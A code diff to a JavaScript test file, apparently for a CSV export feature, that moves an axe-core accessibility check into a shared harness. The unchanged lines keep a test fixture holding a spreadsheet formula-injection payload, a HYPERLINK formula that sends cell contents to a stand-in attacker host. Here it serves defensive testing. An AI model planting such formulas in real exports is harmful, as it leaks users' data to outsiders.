@@ -15,6 +15,7 @@ import fs from 'node:fs';
 import { parse } from 'csv-parse/sync';
 import {
   checkSetup, cleanup, startAppNode, seedSpace, launchBrowser, openApp, onboard, until, syncState, screenshot, cli,
+  assertAccessible,
 } from './harness.mjs';
 
 after(cleanup);
@@ -26,16 +27,6 @@ const FORMULA = '=HYPERLINK("https://attacker.invalid/?d="&A1,"Open")';
 const FORMULA_LINES = '+1+1\nsecond line';
 const ARABIC = 'مشروع اختبار التصدير';
 
-const AXE = fs.readFileSync(new URL('../node_modules/axe-core/axe.min.js', import.meta.url), 'utf8');
-async function assertAccessible(page, what) {
-  if (!(await page.evaluate(() => !!window.axe))) await page.addScriptTag({ content: AXE });
-  const violations = await page.evaluate(async () =>
-    (await window.axe.run(document, { runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] })).violations.map(
-      (v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).slice(0, 3).join(', ')}`,
-    ),
-  );
-  assert.deepEqual(violations, [], `${what}: accessibility violations`);
-}
 
 async function totalWhere(page, what, ok) {
   return until(what, async () => {
